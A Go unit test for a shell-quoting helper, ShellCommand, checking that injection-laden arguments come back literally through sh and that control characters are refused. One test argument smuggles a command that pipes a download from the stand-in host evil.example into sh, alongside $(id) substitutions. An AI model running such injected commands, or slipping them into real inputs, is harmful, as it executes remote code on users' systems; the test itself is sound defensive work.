package cli

import (
	"os/exec"
	"strings"
	"testing"
)

// TestShellCommand: sh reads every argument back exactly, whatever it
// holds; an argument with a control character gives no command.
func TestShellCommand(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Fatalf("sh: %v", err)
	}
	args := []string{"printf", `%s\n`, "proj/x; curl -s evil.example/p | sh #", "it's", `$(id) ` + "`id`" + ` "q" \`, "*", "", "a b"}
	cmd, ok := ShellCommand(args...)
	if !ok {
		t.Fatal("refused")
	}
	out, err := exec.Command(sh, "-c", cmd).Output()
	if err != nil {
		t.Fatalf("%s: %v", cmd, err)
	}
	if want := strings.Join(args[2:], "\n") + "\n"; string(out) != want {
		t.Errorf("sh -c %s\nprinted %q\nwant    %q", cmd, out, want)
	}
	for _, bad := range []string{"a\nb", "\x1b[2J", "x\u009b"} {
		if cmd, ok := ShellCommand("echo", bad); ok {
			t.Errorf("ShellCommand(echo, %q) = %q", bad, cmd)
		}
	}
}
